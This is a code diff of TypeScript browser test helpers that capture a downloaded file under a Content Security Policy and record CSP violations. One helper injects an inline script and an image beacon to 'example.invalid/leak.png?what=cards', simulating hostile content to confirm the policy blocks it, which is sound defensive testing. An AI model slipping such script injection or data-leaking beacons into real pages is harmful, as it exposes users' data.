@@ -89,10 +89,20 @@ export function shownCards(page: PageText, cards: readonly { name: string; face:
 export function catchSavedFile(): boolean {
   const page = window as unknown as { mesaSaved?: { name: string; text: string } };
   Object.defineProperty(navigator, 'canShare', { configurable: true, value: () => false });
+  // The file's blob is kept as its address is made: the page's Content Security Policy lets no
+  // script fetch a blob: address (connect-src 'self'), and a download is not a fetch.
+  const blobs = new Map<string, Blob>();
+  const address = URL.createObjectURL.bind(URL);
+  URL.createObjectURL = (blob: Blob | MediaSource) => {
+    const url = address(blob);
+    if (blob instanceof Blob) blobs.set(url, blob);
+    return url;
+  };
   HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
     const name = this.download;
-    void fetch(this.href)
-      .then((response) => response.text())
+    void blobs
+      .get(this.href)
+      ?.text()
       .then((text) => (page.mesaSaved = { name, text }));
   };
   return true;
@@ -112,4 +122,35 @@ export function chooseFile(file: { name: string; text: string }): boolean {
   input.files = chosen.files;
   input.dispatchEvent(new Event('change', { bubbles: true }));
   return true;
+}
+
+interface PolicyBreach {
+  readonly directive: string;
+  readonly blocked: string;
+}
+
+/** In the page: from now on, every breach of the Content Security Policy is kept on the window. */
+export function watchPolicy(): void {
+  const kept: PolicyBreach[] = [];
+  (window as unknown as { policyBreaches: PolicyBreach[] }).policyBreaches = kept;
+  document.addEventListener('securitypolicyviolation', (event) => kept.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
+}
+
+/** In the page: the breaches kept since watchPolicy. */
+export async function policyBreaches(): Promise<PolicyBreach[]> {
+  return (window as unknown as { policyBreaches?: PolicyBreach[] }).policyBreaches ?? [];
+}
+
+/** In the page: an inline script and a remote picture put in as a hostile text would; whether the script ran. */
+export async function smuggleScript(): Promise<boolean> {
+  const script = document.createElement('script');
+  script.textContent = 'window.smuggled = true';
+  document.body.append(script);
+  const picture = document.createElement('img');
+  picture.src = 'https://example.invalid/leak.png?what=cards';
+  document.body.append(picture);
+  await new Promise((resolve) => setTimeout(resolve, 50));
+  script.remove();
+  picture.remove();
+  return (window as unknown as { smuggled?: boolean }).smuggled === true;
 }
